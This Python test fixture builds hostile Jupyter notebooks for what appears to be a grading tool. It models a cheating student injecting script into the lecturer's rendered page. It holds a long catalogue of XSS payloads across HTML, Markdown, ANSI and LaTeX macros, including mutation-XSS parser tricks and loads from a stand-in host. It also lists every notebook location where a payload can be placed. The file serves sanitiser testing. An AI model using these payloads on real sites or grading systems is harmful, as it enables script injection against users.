"""What an unfair learner writes to run a script on the lecturer's page: payloads, and places."""

from collections.abc import Callable

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

RUN = "window.ran=1;document.title=1;alert(1)"
IMG = f'<img src=x onerror="{RUN}">'
FAR = "https://evil.example/x"
HTML = [
    f"<script>{RUN}</script>",
    f'<ScRiPt src="data:text/javascript,{RUN}"></ScRiPt>',
    f'<script type="text/x-mathjax-config">{RUN}</script>',
    IMG,
    f"<img/src=x/onerror='{RUN}'//",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
    f"<svg><foreignObject>{IMG}</foreignObject></svg>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="data:text/html,<script>parent.{RUN}</script>"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href=" &#1;java&#10;script:{RUN}">x</a>',
    f'<a href="JaVaScRiPt&colon;{RUN}">x</a>',
    f'<a href="files/javascript:{RUN}">x</a>',  # nbconvert takes "files/" away
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f'<a href="vbscript:{RUN}">x</a>',
    '<a href="evil.html">a page handed in beside the notebook</a>',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f'<base href="{FAR}">',
    f'<link rel=stylesheet href="{FAR}">',
    f'<style>@import "{FAR}"; body {{ display: none }}</style>',
    f'<div style="position:fixed;inset:0;z-index:99;background:url({FAR})">over all</div>',
    '<div style="margin:-500px;margin-top: -9em;padding:99999px">over others</div>',
    rf'<div style="background-color:\75rl({FAR});color:expression({RUN})">x</div>',
    f'<form action="{FAR}"><input autofocus onfocus="{RUN}"><button>send</button></form>',
    f'<input type=image src=x onerror="{RUN}"><textarea autofocus onfocus="{RUN}"></textarea>',
    f'<select autofocus onfocus="{RUN}"></select><p tabindex=1 autofocus onfocus="{RUN}">x</p>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<video><source onerror="{RUN}"></video><audio src=x onerror="{RUN}"></audio>',
    f'<marquee onstart="{RUN}">x</marquee><body onload="{RUN}" onpageshow="{RUN}">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMG}'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    f"<svg></p><style><a id='</style>{IMG}'>",
    f"<noscript><p title='</noscript>{IMG}'>",
    f"<template>{IMG}</template><xmp><p title='</xmp>{IMG}'>",
    f"<textarea><p title='</textarea>{IMG}'><title><p title='</title>{IMG}'>",
    f"<select><template><style><!--</style>{IMG}-->",
    f"<!--><!-->{IMG}<![CDATA[>{IMG}]]><?x {IMG}?>",
    f"</pre></code></td></table></div></div></div></div></div></body>{IMG}",
    f"<plaintext>{IMG}",
    '<a id=submission_id name=base_url class="navbar-fixed-top save-icon">x</a><img name=body>',
    f"<a data-toggle=tooltip data-html=true data-target='{IMG}' title='{IMG}' class=score>x</a>",
    f'<img src="{FAR}"><img srcset="{FAR} 1x"><table background="{FAR}"><td background="{FAR}">',
    f"<img src='data:image/png;base64,AA\" onerror=\"{RUN}'>",
    f"<img src='data:image/svg+xml,<svg onload=\"{RUN}\"/>'>",
    f'" onerror="{RUN}" onload="{RUN}" style="position:fixed" x="',
    f"x><script>{RUN}</script>",
    f"1 onload={RUN}",
]
MARKDOWN = [
    f"[x](javascript:{RUN})",
    f"[x](<java\tscript:{RUN}>)",
    f"[x](javascript&#58;{RUN}) [x](\\javascript:{RUN})",
    f"<javascript:{RUN}> [x](files/javascript:{RUN})",
    f"[x][r]\n\n[r]: javascript:{RUN}",
    f"[x][r]\n\n[r]: data:text/html,<script>{RUN}</script>",
    f'![x](x"onerror="{RUN})',
    f"![x]({FAR})",
    f"![x](attachment:a.png) ![{IMG}](attachment:gone.png)",
    f"```mermaid\n{IMG}\n```\n\n```{IMG}\n{IMG}\n```",
    f"# {IMG}\n\n    {IMG}\n\n`{IMG}`",
    f"<div>\n\n{IMG}\n\n</div>",
    f"<div>x</div>&#13;&#13;[x](javascript:{RUN})",
    f"<div>x</div>\r\r[x](javascript:{RUN})",
    f"$x$ {IMG} $${IMG}$$ \\begin{{a}}{IMG}\\end{{a}}",
    f"| a |\n|---|\n| {IMG} |",
    f"- [x] {IMG}",
]
ANSI = [
    f"\x1b[31m{IMG}\x1b[0m",
    f"<\x1b[0mimg src=x onerror='{RUN}'>",
    f"\x1b[38;2;1;2;3m'>{IMG}",
    f"&l\x1b[0mt;script>{RUN}</script>",
]
MACROS = [
    rf"$\href{{javascript:{RUN}}}{{x}}$",
    rf"$\hr<wbr>ef{{javascript:{RUN}}}{{x}}$",
    rf"$\hr<!-- -->ef{{javascript:{RUN}}}{{x}}$",
    rf"$\hr<x>ef{{javascript:{RUN}}}{{x}}$",
    rf"$&#92;href{{javascript:{RUN}}}{{x}}$",
    rf"$\\\href{{javascript:{RUN}}}{{x}}$",
    rf"$\let\x\href \x{{javascript:{RUN}}}{{x}}$",
    r"$$\style{position:fixed;top:0}{x} \class{score}{y} \cssId{submission_id}{z}$$",
    rf"\begin{{align}}\unicode[{IMG}]{{x}} \require{{../../evil}}\end{{align}}",
    r"$\mmlToken{mi}[href='x']{x} \bbox[5px,border:1px]{x}$",
    r"$\raise 99em {16/16} \hspace{-99em} \kern-9em \smash{\rule{9em}{9em}}$",
]
PAYLOADS = HTML + MARKDOWN + ANSI + MACROS


def shown(kind: str) -> Callable[[str], NotebookNode]:
    """Return what makes a cell with an output of some MIME type."""
    return lambda payload: with_output({kind: payload})


def with_output(data: dict, **metadata) -> NotebookNode:
    output = NotebookNode(output_type="display_data", data=data, metadata=metadata)
    return new_code_cell("show", outputs=[output])


def written(payload: str) -> NotebookNode:
    """Return the cell of a written answer."""
    marks = {"grade": True, "solution": True, "grade_id": "written", "points": 4, "locked": False}
    return new_markdown_cell(payload, metadata={"nbgrader": marks | {"schema_version": 3}})


def printed(payload: str) -> NotebookNode:
    outputs = [new_output("stream", name=name, text=payload) for name in ("stdout", "stderr")]
    return new_code_cell("show", outputs=outputs)


def raised(payload: str) -> NotebookNode:
    output = new_output("error", ename=payload, evalue=payload, traceback=[payload])
    return new_code_cell("show", outputs=[output])


def unknown(payload: str) -> NotebookNode:
    cell = new_raw_cell(payload)
    cell.cell_type, cell.type = "unknown", payload  # which nbconvert puts into the page
    return cell


def counted(payload: str) -> NotebookNode:
    cell = shown("text/plain")("x")
    cell.execution_count = payload
    cell.outputs[0].update(output_type="execute_result", execution_count=payload)
    return cell


def sized(payload: str) -> NotebookNode:
    metadata = {"image/png": dict.fromkeys(("width", "height", "alt"), payload)}
    return with_output({"image/png": "AAAA"}, filenames={"image/png": payload}, **metadata)


def isolated(payload: str) -> NotebookNode:
    return with_output({"text/html": payload}, **{"text/html": {"isolated": True}})


def tagged(payload: str) -> NotebookNode:
    metadata = {"tags": [payload], "alt": payload, "magics_language": payload, "raw_mimetype": ""}
    cell = new_code_cell("tagged")
    cell.metadata = NotebookNode(metadata)
    return cell


def attached(payload: str) -> NotebookNode:
    files = {"a.png": {"image/png": payload}, "b.png": {payload: "AAAA"}, "c.png": {}}
    cell = written("".join(f"![](attachment:{name})" for name in [*files, "lost.png"]))
    cell.attachments = files
    return cell


PLACES: dict[str, Callable[[str], NotebookNode]] = {
    "answer": written,
    "added text": new_markdown_cell,
    "raw cell": lambda payload: new_raw_cell(payload, metadata={"raw_mimetype": "text/html"}),
    "unknown cell": unknown,
    "code": new_code_cell,
    "prints": printed,
    "error": raised,
    "html": shown("text/html"),
    "isolated html": isolated,
    "markdown output": shown("text/markdown"),
    "latex": shown("text/latex"),
    "plain": shown("text/plain"),
    "javascript": shown("application/javascript"),
    "svg": shown("image/svg+xml"),
    "mermaid": shown("text/vnd.mermaid"),
    "widget": shown("application/vnd.jupyter.widget-view+json"),
    "vdom": shown("application/vdom.v1+json"),
    "png": shown("image/png"),
    "jpeg": shown("image/jpeg"),
    "sizes": sized,
    "count": counted,
    "tags": tagged,
    "attachments": attached,
}


def notebook(cells: list[NotebookNode], payload: str = IMG) -> NotebookNode:
    """Return a notebook of such cells, with metadata of the same kind."""
    kernelspec = {"name": "python3", "display_name": "Python 3", "language": "python"}
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"x": payload}}}
    language = {"name": payload, "pygments_lexer": payload}
    metadata = {"kernelspec": kernelspec, "title": payload, "widgets": widgets}
    hostile = new_notebook(metadata=metadata | {"language_info": language})
    hostile.cells = cells  # not validated, as nbformat only warns when it reads such a file
    return hostile
